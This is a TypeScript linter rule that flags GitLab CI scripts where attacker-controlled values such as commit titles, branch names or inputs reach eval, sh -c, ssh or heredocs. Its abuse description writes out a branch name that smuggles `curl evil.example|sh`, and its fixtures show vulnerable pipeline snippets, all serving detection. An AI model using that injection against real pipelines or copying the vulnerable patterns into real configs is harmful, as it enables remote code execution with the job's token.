/** Text of outsiders that a shell reads as code. */
import { compareSeverity, type Severity } from "#model/severity.ts";
import { child, itemsOf, type Node, textOf } from "../../../formats/node.ts";
import { type Program, programsOf } from "../../../formats/shell-words/programs.ts";
import { readShell, type ShellWord } from "../../../formats/shell-words/read-shell.ts";
import { isHeredoc, scriptsGivenTo } from "../../../formats/shell-words/scripts-given-to.ts";
import type { Hit } from "../../cicd-rule.ts";
import { placeIn } from "../../github/place-in.ts";
import type { GitlabPipeline, GitlabScript } from "../gitlab-pipeline.ts";
import type { GitlabRule } from "../gitlab-rule.ts";

export const scriptInjection: GitlabRule = {
  id: "cicd/gitlab-script-injection",
  aliases: ["gl-injection", "poutine:injection", "pipeline-check:GL-002"],
  title: "Text that outsiders choose reaches a script",
  severity: "high",
  risks: ["CICD-SEC-4"],
  why: "Titles, messages and names of branches are written by whoever pushes or opens a merge request; where a shell reads them again, or without quotes, they become commands or options.",
  abuse:
    "Somebody pushes a branch called `x;curl evil.example|sh`; the job hands its name to `sh -c` and runs it with the job's token.",
  fix: 'Use the variable alone and in double quotes (`"$CI_COMMIT_TITLE"`), never in `eval`, `sh -c` or `ssh`; for names, take CI_COMMIT_REF_SLUG. Inputs: give them `options`, a `regex` or a type, and pass them through `variables`.',
  links: ["https://docs.gitlab.com/ci/variables/predefined_variables/", "https://docs.gitlab.com/ci/inputs/"],
  check: (pipeline) =>
    pipeline.parts.flatMap(({ scripts }) =>
      scripts.flatMap((script) => [...variableUses(script), ...inputUses(script, pipeline)]),
    ),
  examples: {
    bad: [
      'a:\n  script:\n    - eval "echo $CI_COMMIT_TITLE"\n',
      "a:\n  script:\n    - git checkout $CI_MERGE_REQUEST_SOURCE_BRANCH_NAME\n",
      'a:\n  script: ssh host "deploy ${CI_COMMIT_REF_NAME}"\n',
      'a:\n  script: ssh host "deploy $(date) $CI_COMMIT_TITLE"\n',
      'a:\n  script: sh -c "[[ $CI_COMMIT_BRANCH == main ]]"\n',
      "a:\n  script: sh -c 'eval \"deploy $CI_COMMIT_REF_NAME\"'\n",
      "a:\n  script: sh -c 'git checkout $CI_COMMIT_REF_NAME'\n",
      "a:\n  script: sh -c \"echo '$CI_COMMIT_TITLE'\"\n",
      "a:\n  script:\n    - if [[ 1 -eq $CI_COMMIT_TAG ]]; then make; fi\n",
      "spec:\n  inputs:\n    target:\n---\na:\n  script:\n    - ./deploy $[[ inputs.target ]]\n",
      // GitLab itself says not to rely on it.
      "spec:\n  inputs:\n    target:\n---\na:\n  script:\n    - ./deploy $[[ inputs.target | posix_escape ]]\n",
      'a:\n  run:\n    - name: note\n      script: eval "echo $CI_COMMIT_TITLE"\n',
      'a:\n  script:\n    - |\n      bash <<END\n      echo "$CI_COMMIT_TITLE"\n      END\n',
      "a:\n  script:\n    - |\n      bash -s <<'END'\n      git checkout $CI_COMMIT_REF_NAME\n      END\n",
      'a:\n  script:\n    - |\n      ssh -i key host <<-END\n      deploy "$CI_COMMIT_TAG"\n      END\n',
      "a:\n  script:\n    - |\n      psql shop <<END\n      insert into notes values ('$CI_COMMIT_TITLE');\n      END\n",
      'a:\n  script:\n    - |\n      cat <<END | sudo sh\n      echo "${CI_COMMIT_BRANCH}"\n      END\n',
      'a:\n  script:\n    - python <<< "print(\'$CI_COMMIT_TITLE\')"\n    - echo "deploy $CI_COMMIT_TAG" | ssh host\n',
    ],
    good: [
      'a:\n  script:\n    - ./note "$CI_COMMIT_TITLE"\n    - ./tag $CI_COMMIT_SHA $CI_COMMIT_REF_SLUG\n',
      "a:\n  script:\n    - sh -c 'git checkout \"$CI_COMMIT_REF_NAME\"'\n    - ssh host 'echo $CI_COMMIT_TAG'\n    - grep '$CI_COMMIT_BRANCH' a\n",
      "a:\n  script:\n    - |\n      cat <<END > note.txt\n      $CI_COMMIT_TITLE\n      END\n    - |\n      ssh host 'cat > note.txt' <<END\n      $CI_COMMIT_TITLE\n      END\n",
      'a:\n  script:\n    - |\n      bash <<\'END\'\n      ./note "$CI_COMMIT_TITLE"\n      END\n    - |\n      bash <<END\n      ./note "\\$CI_COMMIT_TITLE"\n      END\n',
      'a:\n  script:\n    - python note.py <<< "$CI_COMMIT_TITLE"\n',
      'a:\n  script:\n    - ./note "$(git log "$CI_COMMIT_TITLE" | head)"\n',
      'a:\n  script:\n    - if [[ $CI_COMMIT_BRANCH == "main" ]]; then make; fi\n    - case $CI_COMMIT_TAG in v1) make;; esac\n',
      "spec:\n  inputs:\n    target:\n      options: [dev, prod]\n---\na:\n  script:\n    - ./deploy $[[ inputs.target ]]\n",
    ],
  },
};

const untrusted =
  /\$\{?(CI_COMMIT_(?:MESSAGE|TITLE|DESCRIPTION|REF_NAME|BRANCH|TAG|TAG_MESSAGE|AUTHOR)|CI_BUILD_REF_NAME|CI_MERGE_REQUEST_(?:TITLE|DESCRIPTION|SOURCE_BRANCH_NAME|LABELS|MILESTONE)|CI_EXTERNAL_PULL_REQUEST_SOURCE_BRANCH_NAME|GITLAB_USER_NAME|TRIGGER_PAYLOAD)(?![A-Z_])/;
const readsAgain = new Set(["eval", "ssh", "su", "watch", "parallel", "sshpass"]);
const interpreters = /^(?:(?:ba|da|a|z|k)?sh|python[\d.]*|ruby|perl|node|php|pwsh|powershell|psql|mysql)$/;

/** Of several uses of a name in one script the worst is told. */
function variableUses({ node, text, address }: GitlabScript): readonly Hit[] {
  if (!untrusted.test(text)) return [];
  const hits = new Map<string, Hit & Judged>();
  const putIn = new Map<ShellWord, boolean>();
  for (const program of programsOf(readShell(text))) {
    const { writtenIn } = program;
    if (writtenIn && !putIn.has(writtenIn)) putIn.set(writtenIn, isPutIn(writtenIn, text));
    // In single quotes it is the inner shell that takes it from its environment, as any shell does.
    const isReadAgain = writtenIn !== undefined && putIn.get(writtenIn) === true;
    for (const given of isReadAgain ? [] : scriptsGivenTo(program)) {
      if (!isPutIn(given, writtenIn?.text ?? text)) continue;
      const { start, end } = writtenIn ?? given;
      for (const name of namesIn(given.text))
        hits.set(name, { at: placeIn(node, start, end), address: `${address}/${name}`, ...readAgain });
    }
    if (!isReadAgain && splitsNothing(program)) continue;
    for (const [index, word] of program.words.entries()) {
      const written = ownText(word, writtenIn?.text ?? text);
      const name = untrusted.exec(word.inner.length > 0 ? written : word.text)?.[1];
      const before = name === undefined ? undefined : hits.get(name);
      if (name === undefined || before?.severity === "high") continue;
      const judged = isReadAgain ? readAgain : judgeWord(program, index, written);
      if (!judged || (before && compareSeverity(judged.severity, before.severity) >= 0)) continue;
      const { start, end } = writtenIn ?? word;
      hits.set(name, { at: placeIn(node, start, end), address: `${address}/${name}`, ...judged });
    }
  }
  return [...hits.values()];
}

interface Judged {
  readonly why: string;
  readonly severity: Severity;
}

function judgeWord({ name, words }: Program, index: number, written: string): Judged | undefined {
  if (!isReplaced(written)) return undefined;
  const before = words[index - 1]?.text ?? "";
  if (readsAgain.has(name) || (interpreters.test(name) && /^-[a-z]*[ce]$|^--(?:command|eval|execute)$/.test(before)))
    return readAgain;
  if (!/["']/.test(written))
    return { why: "without quotes it becomes several arguments, and options", severity: "medium" };
  if (/^"[^"]*"$/.test(written) && !/^"\$\{?\w+\}?"$/.test(written))
    return { why: "it is mixed into other text, and whatever reads that takes it for its own", severity: "low" };
  return undefined;
}

/** As it is written but for its substitutions, whose commands are judged as others are. */
function ownText({ start, end, inner }: ShellWord, script: string): string {
  let text = "";
  let from = start;
  for (const command of inner) {
    text += script.slice(from, command.start);
    from = Math.max(from, command.end);
  }
  return text + script.slice(from, end);
}

const readAgain: Judged = { why: "a second shell or interpreter reads it as part of its program", severity: "high" };

/** `[[ $A == b ]]` and `case $A in` need no quotes; numbers are compared by working out what stands there. */
function splitsNothing({ name, words }: Program): boolean {
  return name === "case" || (name === "[[" && !words.some(({ text }) => /^-(?:eq|ne|[lg][et])$/.test(text)));
}

/** True if the shell puts a value into a text that another program runs. */
function isPutIn(word: ShellWord, source: string): boolean {
  const written = source.slice(word.start, word.end);
  if (!isHeredoc(word)) return isReplaced(written);
  return word.isExpanded && untrusted.test(written.replace(/\\./gs, ""));
}

function namesIn(text: string): ReadonlySet<string> {
  return new Set([...text.matchAll(new RegExp(untrusted, "g"))].flatMap(([, name]) => name ?? []));
}

/** True if a name stands where the shell puts its value in: nothing is replaced in single quotes. */
function isReplaced(written: string): boolean {
  return untrusted.test(written.replace(/"(?:[^"\\]|\\.)*"|'[^']*'/gs, (part) => (part.startsWith("'") ? "''" : part)));
}

/** Inputs are pasted before any shell sees the script. */
function inputUses({ node, text, address }: GitlabScript, { inputs }: GitlabPipeline): readonly Hit[] {
  const hits = new Map<string, Hit>();
  for (const found of text.matchAll(/\$\[\[\s*inputs\.([\w-]{1,200})([^\]]{0,300})\]\]/g)) {
    const [whole, name = "", rest = ""] = found;
    const expands = /\|\s*expand_vars\b/.test(rest);
    if (hits.has(name) || (!expands && isRestricted(inputs.get(name)))) continue;
    hits.set(name, {
      at: placeIn(node, found.index, found.index + whole.length),
      address: `${address}/inputs.${name}`,
      why: expands
        ? `the variables that the input \`${name}\` names are put in, too`
        : `the input \`${name}\` is pasted into the script, whatever it holds`,
      ...(!expands && { severity: "medium" as const }),
    });
  }
  return [...hits.values()];
}

function isRestricted(input: Node | undefined): boolean {
  const type = textOf(child(input, "type"));
  if (type === "number" || type === "boolean") return true;
  return itemsOf(child(input, "options")).length > 0 || child(input, "regex") !== undefined;
}
